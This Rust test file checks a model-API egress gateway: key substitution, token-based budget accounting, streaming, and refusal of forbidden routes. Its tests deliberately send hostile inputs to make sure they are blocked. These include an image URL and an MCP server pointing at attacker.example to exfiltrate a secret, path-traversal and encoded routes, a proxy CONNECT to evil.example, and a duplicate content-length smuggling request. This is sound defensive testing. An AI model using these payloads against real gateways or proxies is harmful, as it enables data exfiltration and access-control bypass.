//! The model gateway before a scripted provider: what reaches it, what it is told, and who pays.

mod steering;

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::os::unix::net::{UnixListener, UnixStream};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use nucleus::Monitor;
use nucleus::monitor::{RefusalLimits, SessionOptions};
use nucleus_audit::{Log, LogOptions, SigningKey};
use nucleus_egress::gateway::{
    Account, CallSummary, Gateway, Hold, ModelKey, Prices, SessionAccount, Upstream,
};
use portcullis::envelope::{Envelope, EnvelopeParts};
use portcullis::{Amount, SessionId};
use serde_json::{Value, json};
use tempfile::TempDir;

const KEY: &str = "sk-canary-0123456789abcdef";
/// A price list under which a token of each kind costs a micro-dollar.
const PRICES: &str = "version = 1\nas_of = 'test'\n[[price]]\nmodel = 'm'\ninput = 1000\noutput = 1000\nmax_output = 100\n";

/// One request as the provider saw it.
#[derive(Clone, Debug)]
struct Seen {
    head: String,
    body: String,
}

/// What the provider answers to every call.
#[derive(Clone, Copy)]
enum Script {
    /// A whole answer that reports this usage.
    Whole(u64, u64),
    /// A stream that reports this usage and ends.
    Stream(u64, u64),
    /// A stream that breaks off before it ends.
    Dies,
    /// An error.
    Error,
    /// A stream that reports this usage, the rest of it after a word of the test's.
    Pauses(u64, u64),
    /// A stream that reports this usage, and stays open until a word of the test's.
    Lingers(u64, u64),
}

/// A session with its gateway, before a provider that plays a script.
struct Scene {
    port: SocketAddr,
    monitor: Arc<Monitor>,
    seen: Arc<Mutex<Vec<Seen>>>,
    go_on: Sender<()>,
    dir: TempDir,
    _runtime: tokio::runtime::Runtime,
}

impl Scene {
    fn new(script: Script, maximum: Amount) -> Self {
        Self::paid(script, maximum, |monitor| {
            Arc::new(SessionAccount::of(monitor))
        })
    }

    /// A session whose calls this account pays.
    fn paid(
        script: Script,
        maximum: Amount,
        account: impl Fn(&Arc<Monitor>) -> Arc<dyn Account>,
    ) -> Self {
        Self::bounded(script, maximum, RefusalLimits::default(), account)
    }

    /// A session that locks itself down after so many refusals.
    fn bounded(
        script: Script,
        maximum: Amount,
        refusals: RefusalLimits,
        account: impl Fn(&Arc<Monitor>) -> Arc<dyn Account>,
    ) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let id = SessionId::from_bytes([7; 16]);
        let key = SigningKey::from_seed(&[1; 32]);
        let log = Log::create(&dir.path().join("log"), id, LogOptions::default(), key).unwrap();
        let parts = EnvelopeParts {
            maximum,
            ..EnvelopeParts::everything()
        };
        let mut options = SessionOptions::new(Envelope::new(parts), "tester", id, log);
        options.refusals = refusals;
        let monitor = Monitor::open(options).unwrap();
        let socket = dir.path().join("provider");
        let provider = UnixListener::bind(&socket).unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let told = Arc::clone(&seen);
        let (go_on, word) = channel();
        let word = Arc::new(Mutex::new(word));
        std::thread::spawn(move || provide(&provider, script, &told, &word));
        let prices = Prices::shipped().unwrap().with("test", PRICES).unwrap();
        let key = ModelKey::new(KEY).unwrap();
        let upstream = Upstream::socket(&socket).unwrap();
        let gateway = Gateway::new(upstream, Some(key), prices, account(&monitor));
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap();
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        runtime.spawn(gateway.serve(listener));
        Self {
            port,
            monitor,
            seen,
            go_on,
            dir,
            _runtime: runtime,
        }
    }

    fn open(&self, head: &str, body: &str) -> TcpStream {
        let mut stream = TcpStream::connect(self.port).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(60)))
            .unwrap();
        let request = format!(
            "{head} HTTP/1.1\r\nhost: model\r\nauthorization: Bearer own-key\r\nx-own: secret\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        );
        stream.write_all(request.as_bytes()).unwrap();
        stream
    }

    /// Status and body of the answer.
    fn call(&self, head: &str, body: &Value) -> (u16, String) {
        let mut text = String::new();
        self.open(head, &body.to_string())
            .read_to_string(&mut text)
            .unwrap();
        let status = text.split(' ').nth(1).unwrap().parse().unwrap();
        (status, text.split_once("\r\n\r\n").unwrap().1.to_owned())
    }

    /// The whole answer to bytes after which the connection closes.
    fn raw(&self, bytes: &str) -> String {
        let mut stream = TcpStream::connect(self.port).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(60)))
            .unwrap();
        stream.write_all(bytes.as_bytes()).unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        let _ = stream.shutdown(Shutdown::Both);
        text
    }

    fn chat(&self, body: &Value) -> (u16, String) {
        self.call("POST /v1/chat/completions", body)
    }

    fn spent(&self) -> Amount {
        self.monitor
            .envelope()
            .maximum()
            .checked_sub(self.monitor.budget().remaining())
            .unwrap()
    }

    /// Waits until what was spent is this: a client that leaves is noticed a little later.
    fn wait_until_spent(&self, wanted: impl Fn(Amount) -> bool) {
        let patience = Instant::now() + Duration::from_secs(30);
        while !wanted(self.spent()) {
            assert!(Instant::now() < patience, "{:?}", self.spent());
            std::thread::sleep(Duration::from_millis(5));
        }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("log/audit-0000.jsonl")).unwrap()
    }
}

fn provide(
    listener: &UnixListener,
    script: Script,
    seen: &Arc<Mutex<Vec<Seen>>>,
    word: &Arc<Mutex<Receiver<()>>>,
) {
    for stream in listener.incoming() {
        let (stream, seen, word) = (stream.unwrap(), Arc::clone(seen), Arc::clone(word));
        std::thread::spawn(move || serve(stream, script, &seen, &word));
    }
}

fn serve(
    mut stream: UnixStream,
    script: Script,
    seen: &Mutex<Vec<Seen>>,
    word: &Mutex<Receiver<()>>,
) {
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut head = String::new();
    while reader.read_line(&mut head).unwrap() > 2 {}
    let length = head.lines().find_map(|line| {
        line.to_ascii_lowercase()
            .strip_prefix("content-length: ")?
            .parse()
            .ok()
    });
    let mut body = vec![0; length.unwrap_or(0)];
    reader.read_exact(&mut body).unwrap();
    seen.lock().unwrap().push(Seen {
        head,
        body: String::from_utf8(body).unwrap(),
    });
    let (first, rest) = played(script);
    let _ = stream.write_all(&first);
    if let Script::Pauses(..) | Script::Lingers(..) = script {
        let _ = word.lock().unwrap().recv();
    }
    let _ = stream.write_all(&rest);
}

/// What is sent at once, and what of it later.
fn played(script: Script) -> (Vec<u8>, Vec<u8>) {
    let usage =
        |input: u64, output: u64| json!({"prompt_tokens": input, "completion_tokens": output});
    let chunk = |value: &Value| format!("data: {value}\n\n");
    let first = chunk(
        &json!({"object": "chat.completion.chunk", "choices": [{"delta": {"content": "hi"}}]}),
    );
    let whole = |status: &str, kind: &str, body: &str| {
        format!("HTTP/1.1 {status}\r\ncontent-type: {kind}\r\nx-internal: org-1\r\ncontent-length: {}\r\n\r\n{body}", body.len()).into_bytes()
    };
    let last = |input: u64, output: u64| {
        chunk(
            &json!({"object": "chat.completion.chunk", "choices": [], "usage": usage(input, output)}),
        )
    };
    let open = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n\r\n";
    let at_once = match script {
        Script::Whole(input, output) => {
            let body = json!({"object": "chat.completion", "choices": [{}], "usage": usage(input, output)}).to_string();
            whole("200 OK", "application/json", &body)
        }
        Script::Stream(input, output) => {
            let last = last(input, output);
            whole("200 OK", "text/event-stream", &format!("{first}{last}data: [DONE]\n\n"))
        }
        Script::Dies => format!("HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-length: 99999\r\n\r\n{first}").into_bytes(),
        Script::Error => whole("429 Too Many Requests", "application/json", "{\"error\":{\"message\":\"slow down\"}}"),
        Script::Pauses(input, output) => {
            let rest = format!("{}data: [DONE]\n\n", last(input, output));
            return (format!("{open}{first}").into(), rest.into());
        }
        Script::Lingers(input, output) => {
            format!("{open}{first}{}data: [DONE]\n\n", last(input, output)).into()
        }
    };
    (at_once, Vec::new())
}

fn amount(micro_usd: u64, input_tokens: u64, output_tokens: u64) -> Amount {
    Amount {
        micro_usd,
        input_tokens,
        output_tokens,
    }
}

fn hello(more: &[(&str, Value)]) -> Value {
    let mut body =
        json!({"model": "m", "messages": [{"role": "user", "content": "hello"}], "max_tokens": 10});
    for (key, value) in more {
        body[*key] = value.clone();
    }
    body
}

const PLENTY: u64 = 1_000_000;

#[test]
fn a_call_is_made_with_our_key_and_paid_by_what_was_used() {
    let scene = Scene::new(Script::Whole(30, 4), amount(PLENTY, PLENTY, PLENTY));
    let (status, body) = scene.chat(&hello(&[("user", json!("somebody"))]));
    assert_eq!(status, 200, "{body}");
    scene.wait_until_spent(|spent| spent == amount(34, 30, 4));
    let seen = scene.seen();
    assert!(
        seen[0]
            .head
            .contains(&format!("authorization: Bearer {KEY}"))
    );
    assert!(
        !seen[0].head.contains("own-key")
            && !seen[0].head.contains("x-own")
            && !seen[0].body.contains("somebody")
    );
    assert_eq!(
        serde_json::from_str::<Value>(&seen[0].body).unwrap()["max_tokens"],
        10
    );
    let log = scene.log();
    assert!(
        log.contains("model call passed: POST /v1/chat/completions, model m")
            && log.contains("34 micro-dollars"),
        "{log}"
    );
    assert!(!log.contains(KEY));
}

#[test]
fn a_stream_is_paid_by_what_it_reports_and_hides_what_was_not_asked_for() {
    let scene = Scene::new(Script::Stream(30, 4), amount(PLENTY, PLENTY, PLENTY));
    let (_, body) = scene.chat(&hello(&[("stream", json!(true))]));
    assert!(
        body.contains("\"hi\"") && body.contains("[DONE]") && !body.contains("prompt_tokens"),
        "{body}"
    );
    scene.wait_until_spent(|spent| spent == amount(34, 30, 4));
    assert_eq!(
        serde_json::from_str::<Value>(&scene.seen()[0].body).unwrap()["stream_options"]["include_usage"],
        true
    );
    let asked = hello(&[
        ("stream", json!(true)),
        ("stream_options", json!({"include_usage": true})),
    ]);
    assert!(
        scene.chat(&asked).1.contains("prompt_tokens"),
        "the allow twin"
    );
}

#[test]
fn a_stream_that_dies_costs_its_reservation() {
    let scene = Scene::new(Script::Dies, amount(PLENTY, PLENTY, PLENTY));
    let mut text = String::new();
    let _ = scene
        .open(
            "POST /v1/chat/completions",
            &hello(&[("stream", json!(true))]).to_string(),
        )
        .read_to_string(&mut text);
    scene.wait_until_spent(|spent| spent.output_tokens == 10 && spent.input_tokens > 1000);
    assert!(scene.log().contains("model call passed"));
}

#[test]
fn an_error_of_the_provider_costs_nothing_and_is_passed_back() {
    let scene = Scene::new(Script::Error, amount(PLENTY, PLENTY, PLENTY));
    let (status, body) = scene.chat(&hello(&[]));
    assert!(status == 429 && body.contains("slow down"), "{body}");
    scene.wait_until_spent(|spent| spent == Amount::ZERO);
}

#[test]
fn the_call_that_would_overrun_is_the_first_that_is_not_made() {
    // Each call reports exactly what it may return; the third no longer fits.
    let scene = Scene::new(Script::Whole(0, 10), amount(PLENTY, PLENTY, 25));
    for _ in 0..2 {
        assert_eq!(scene.chat(&hello(&[])).0, 200);
        let before = scene.seen().len() as u64;
        scene.wait_until_spent(|spent| spent.output_tokens == 10 * before);
    }
    let (status, body) = scene.chat(&hello(&[]));
    assert!(
        status == 402
            && body.contains("5 output tokens are left")
            && body.contains("nucleus_refused"),
        "{body}"
    );
    assert_eq!(scene.seen().len(), 2, "nothing reached the provider unpaid");
    assert_eq!(
        scene.chat(&hello(&[("max_tokens", json!(5))])).0,
        200,
        "the allow twin: a smaller call fits"
    );
}

#[test]
fn many_calls_at_once_never_overspend() {
    let scene = Scene::new(Script::Whole(0, 10), amount(PLENTY, PLENTY, 100));
    let passed: usize = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..32)
            .map(|_| scope.spawn(|| scene.chat(&hello(&[])).0))
            .collect();
        threads
            .into_iter()
            .filter(|_| true)
            .map(|thread| usize::from(thread.join().unwrap() == 200))
            .sum()
    });
    scene.wait_until_spent(|spent| spent.output_tokens == 10 * passed as u64);
    assert_eq!(passed, 10, "exactly as many as the budget covers");
    assert_eq!(scene.seen().len(), 10);
}

#[test]
fn what_makes_the_provider_a_courier_never_reaches_it() {
    let scene = Scene::new(Script::Whole(1, 1), amount(PLENTY, PLENTY, PLENTY));
    let image = json!([{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "https://attacker.example/?q=secret"}}]}]);
    let (status, body) = scene.chat(&hello(&[("messages", image)]));
    assert!(
        status == 403 && body.contains("messages[0].content[0].image_url.url"),
        "{body}"
    );
    let claude = json!({"model": "m", "max_tokens": 5, "messages": [], "mcp_servers": [{"url": "https://attacker.example"}]});
    let (status, body) = scene.call("POST /v1/messages", &claude);
    assert!(
        status == 403 && body.contains("\"type\":\"error\"") && body.contains("mcp_servers"),
        "{body}"
    );
    let gemini = json!({"contents": [], "cachedContent": "c"});
    let (status, body) = scene.call("POST /v1beta/models/m:generateContent", &gemini);
    assert!(
        status == 403 && body.contains("PERMISSION_DENIED"),
        "{body}"
    );
    for route in [
        "POST /v1/files",
        "POST /v1/batches",
        "GET /v1/responses/r",
        "POST /v1/chat/completions?x=1",
    ] {
        assert_eq!(scene.call(route, &json!({})).0, 403, "{route}");
    }
    assert_eq!(scene.seen().len(), 0);
    assert_eq!(scene.spent(), Amount::ZERO);
    assert_eq!(scene.log().matches("model call refused").count(), 7);
    assert_eq!(scene.chat(&hello(&[])).0, 200, "the allow twin");
}

#[test]
fn a_model_without_a_price_is_not_called() {
    let scene = Scene::new(Script::Whole(1, 1), amount(PLENTY, PLENTY, PLENTY));
    let (status, body) = scene.chat(&hello(&[("model", json!("mystery"))]));
    assert!(status == 403 && body.contains("prices.toml"), "{body}");
    assert_eq!(scene.seen().len(), 0);
}

#[test]
fn a_session_that_is_over_calls_nothing() {
    let scene = Scene::new(Script::Whole(1, 1), amount(PLENTY, PLENTY, PLENTY));
    assert_eq!(scene.chat(&hello(&[])).0, 200, "the allow twin");
    scene.monitor.lockdown("test").unwrap();
    assert_eq!(scene.chat(&hello(&[])).0, 503);
    assert_eq!(scene.seen().len(), 1);
}

#[test]
fn a_provider_that_hides_its_cost_is_not_believed() {
    // More than was reserved: everything left of that kind goes, and the session is locked down.
    let scene = Scene::new(Script::Whole(0, 5000), amount(PLENTY, PLENTY, 6000));
    assert_eq!(scene.chat(&hello(&[])).0, 200);
    scene.wait_until_spent(|spent| spent.output_tokens == 5000);
    let patience = Instant::now() + Duration::from_secs(30);
    while scene.monitor.is_active() {
        assert!(Instant::now() < patience);
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// The text of a stream up to this word, which has to be there.
fn read_up_to(reader: &mut impl std::io::BufRead, word: &str) -> String {
    let mut text = String::new();
    while !text.contains(word) {
        assert!(reader.read_line(&mut text).unwrap() > 0, "{text}");
    }
    text
}

#[test]
fn events_arrive_while_the_model_still_speaks() {
    // Read in passing as it came, and rewritten to hide the usage.
    for asked in [true, false] {
        let scene = Scene::new(Script::Pauses(30, 4), amount(PLENTY, PLENTY, PLENTY));
        let body = hello(&[
            ("stream", json!(true)),
            ("stream_options", json!({"include_usage": asked})),
        ]);
        let stream = scene.open("POST /v1/chat/completions", &body.to_string());
        let mut reader = BufReader::new(stream);
        let text = read_up_to(&mut reader, "\"hi\"");
        assert!(
            text.starts_with("HTTP/1.1 200") && !text.contains("[DONE]"),
            "{text}"
        );
        scene.go_on.send(()).unwrap();
        let rest = read_up_to(&mut reader, "[DONE]");
        assert_eq!(rest.contains("prompt_tokens"), asked, "{rest}");
        scene.wait_until_spent(|spent| spent == amount(34, 30, 4));
    }
}

#[test]
fn a_client_that_leaves_after_the_last_event_pays_what_was_used() {
    let scene = Scene::new(Script::Lingers(30, 4), amount(PLENTY, PLENTY, PLENTY));
    let stream = scene.open(
        "POST /v1/chat/completions",
        &hello(&[("stream", json!(true))]).to_string(),
    );
    let mut reader = BufReader::new(stream);
    read_up_to(&mut reader, "[DONE]");
    drop(reader);
    scene.wait_until_spent(|spent| spent == amount(34, 30, 4));
    // The deny twin: one that leaves before it costs its reservation.
    let scene = Scene::new(Script::Pauses(30, 4), amount(PLENTY, PLENTY, PLENTY));
    let stream = scene.open(
        "POST /v1/chat/completions",
        &hello(&[("stream", json!(true))]).to_string(),
    );
    let mut reader = BufReader::new(stream);
    read_up_to(&mut reader, "\"hi\"");
    drop(reader);
    scene.wait_until_spent(|spent| spent.output_tokens == 10 && spent.input_tokens > 1000);
}

#[test]
fn no_other_route_reaches_the_provider() {
    let scene = Scene::new(Script::Whole(1, 1), amount(PLENTY, PLENTY, PLENTY));
    let tail = "host: model\r\ncontent-length: 0\r\nconnection: close\r\n";
    for line in [
        "POST /v1/files HTTP/1.1\r\n",
        "GET /v1/responses HTTP/1.1\r\n",
        "PUT /v1/responses HTTP/1.1\r\n",
        "POST /v1/../v1/responses HTTP/1.1\r\n",
        "POST /v1/%72esponses HTTP/1.1\r\n",
        "POST http://evil.example/v1/responses HTTP/1.1\r\n",
        "POST /v1/responses HTTP/1.1\r\nupgrade: websocket\r\n",
        "CONNECT evil.example:443 HTTP/1.1\r\n",
    ] {
        let text = scene.raw(&format!("{line}{tail}\r\n"));
        assert!(text.starts_with("HTTP/1.1 403"), "{line:?}: {text}");
        assert!(text.contains("permission_error"), "{line:?}: {text}");
    }
    assert_eq!(scene.log().matches("model call refused").count(), 8);
    assert_eq!(scene.seen().len(), 0);
}

#[test]
fn a_second_request_on_one_connection_is_judged_too() {
    let scene = Scene::new(Script::Whole(30, 4), amount(PLENTY, PLENTY, PLENTY));
    let body = hello(&[]).to_string();
    let first = format!(
        "POST /v1/chat/completions HTTP/1.1\r\nhost: model\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let second =
        "POST /v1/files HTTP/1.1\r\nhost: model\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
    let text = scene.raw(&format!("{first}{second}"));
    assert!(
        text.starts_with("HTTP/1.1 200") && text.contains("HTTP/1.1 403"),
        "{text}"
    );
    assert_eq!(scene.seen().len(), 1);
}

#[test]
fn a_body_of_two_lengths_is_not_passed_on() {
    let scene = Scene::new(Script::Whole(30, 4), amount(PLENTY, PLENTY, PLENTY));
    let text = scene.raw(
        "POST /v1/chat/completions HTTP/1.1\r\nhost: model\r\ncontent-length: 2\r\ncontent-length: 40\r\nconnection: close\r\n\r\n{}",
    );
    assert!(text.starts_with("HTTP/1.1 400"), "{text}");
    assert_eq!(scene.seen().len(), 0);
}

#[test]
fn a_provider_that_is_gone_is_a_bad_gateway() {
    let scene = Scene::new(Script::Whole(30, 4), amount(PLENTY, PLENTY, PLENTY));
    std::fs::remove_file(scene.dir.path().join("provider")).unwrap();
    let (status, text) = scene.chat(&hello(&[]));
    assert_eq!(status, 502, "{text}");
    assert!(!text.contains(scene.dir.path().to_str().unwrap()), "{text}");
}

/// An account that has money but can record nothing.
#[derive(Debug)]
struct FullDisk;

impl Account for FullDisk {
    fn left(&self) -> Amount {
        amount(PLENTY, PLENTY, PLENTY)
    }

    fn reserve(&self, _: &CallSummary) -> std::io::Result<Option<Box<dyn Hold>>> {
        Err(std::io::Error::other("the disk is full"))
    }

    fn refuse(&self, _: &CallSummary) -> std::io::Result<()> {
        Err(std::io::Error::other("the disk is full"))
    }
}

#[test]
fn a_call_that_cannot_be_recorded_is_not_passed_on() {
    let most = amount(PLENTY, PLENTY, PLENTY);
    let scene = Scene::paid(Script::Whole(30, 4), most, |_| Arc::new(FullDisk));
    let (status, text) = scene.chat(&hello(&[]));
    assert!(status == 503 && !text.contains("disk"), "{text}");
    assert_eq!(scene.seen().len(), 0, "nothing reached the provider");
}

#[test]
fn each_api_has_the_key_in_its_own_header() {
    let scene = Scene::new(Script::Whole(1, 1), amount(PLENTY, PLENTY, PLENTY));
    let list = "host: model\r\nconnection: close\r\n";
    let claude = json!({"model": "m", "max_tokens": 5, "messages": []});
    scene.call("POST /v1/messages", &claude);
    scene.call(
        "POST /v1beta/models/m:generateContent",
        &json!({"contents": []}),
    );
    scene.raw(&format!("GET /v1/models HTTP/1.1\r\n{list}\r\n"));
    scene.raw(&format!(
        "GET /v1/models HTTP/1.1\r\n{list}anthropic-version: 2023-06-01\r\n\r\n"
    ));
    let heads: Vec<String> = scene.seen().into_iter().map(|seen| seen.head).collect();
    for (head, header) in heads.iter().zip([
        format!("x-api-key: {KEY}"),
        format!("x-goog-api-key: {KEY}"),
        format!("authorization: Bearer {KEY}"),
        format!("x-api-key: {KEY}"),
    ]) {
        assert!(head.contains(&header), "{head}");
        assert_eq!(head.matches(KEY).count(), 1, "{head}");
        assert!(!head.contains("own-key"), "{head}");
    }
    assert_eq!(heads.len(), 4);
}

fn plenty() -> Amount {
    amount(PLENTY, PLENTY, PLENTY)
}

/// A session whose log takes this many unpaid calls.
fn bounded(script: Script, requests: u64) -> Scene {
    let limits = RefusalLimits {
        requests,
        ..RefusalLimits::default()
    };
    Scene::bounded(script, plenty(), limits, |monitor| {
        Arc::new(SessionAccount::of(monitor))
    })
}

#[test]
fn calls_that_cost_nothing_cannot_fill_the_log() {
    let refused: &dyn Fn(&Scene) =
        &|scene| assert_eq!(scene.call("POST /v1/files", &json!({})).0, 403);
    let listed: &dyn Fn(&Scene) = &|scene| {
        scene.raw("GET /v1/models HTTP/1.1\r\nhost: model\r\nconnection: close\r\n\r\n");
    };
    for free in [refused, listed] {
        let scene = bounded(Script::Whole(1, 1), 5);
        for round in 0..5 {
            assert!(scene.monitor.is_active(), "round {round}");
            free(&scene);
        }
        assert!(!scene.monitor.is_active());
        let length = scene.log().len();
        assert!(scene.log().contains("too many requests were refused"));
        for _ in 0..20 {
            let mut text = String::new();
            let mut stream = scene.open("POST /v1/files", "{}");
            stream.read_to_string(&mut text).unwrap();
        }
        assert_eq!(scene.log().len(), length);
    }
}

#[test]
fn calls_that_the_provider_refuses_count_as_free_ones_and_paid_calls_do_not() {
    let scene = bounded(Script::Error, 5);
    for _ in 0..5 {
        scene.chat(&hello(&[]));
    }
    assert!(!scene.monitor.is_active());
    let scene = bounded(Script::Whole(1, 1), 5);
    for _ in 0..20 {
        assert_eq!(scene.chat(&hello(&[])).0, 200);
    }
    assert!(scene.monitor.is_active());
}

#[test]
fn requests_wait_until_there_is_room_for_them() {
    let scene = Scene::new(Script::Whole(1, 1), plenty());
    let head =
        "POST /v1/chat/completions HTTP/1.1\r\nhost: model\r\ncontent-length: 33554432\r\n\r\n{";
    let mut hanging: Vec<TcpStream> = (0..4)
        .map(|_| {
            let mut stream = TcpStream::connect(scene.port).unwrap();
            stream.write_all(head.as_bytes()).unwrap();
            stream
        })
        .collect();
    // Nothing tells when a request has its room: until all have theirs, a small one is answered.
    let patience = Instant::now() + Duration::from_secs(30);
    let mut small = scene.open("POST /v1/chat/completions", &hello(&[]).to_string());
    loop {
        small
            .set_read_timeout(Some(Duration::from_millis(500)))
            .unwrap();
        if small.read(&mut [0; 1024]).is_err() {
            break;
        }
        assert!(
            Instant::now() < patience,
            "four requests of 32 MiB leave room"
        );
        small = scene.open("POST /v1/chat/completions", &hello(&[]).to_string());
    }
    hanging.pop();
    small
        .set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    let mut text = String::new();
    small.read_to_string(&mut text).unwrap();
    assert!(text.starts_with("HTTP/1.1 200"), "{text}");
}

#[test]
fn a_request_of_too_many_values_is_refused_before_it_is_read() {
    let rich = amount(1 << 40, 1 << 40, 1 << 40);
    let scene = Scene::new(Script::Whole(1, 1), rich);
    let (status, said) = scene.call(
        "POST /v1/chat/completions",
        &json!({"model": "m", "messages": vec![0; (1 << 20) + 1]}),
    );
    assert_eq!(status, 413, "{said}");
    // The same letters in a text are one value.
    let mut long = hello(&[]);
    long["messages"][0]["content"] = json!(",[{".repeat(1 << 19));
    assert_eq!(scene.chat(&long).0, 200);
}
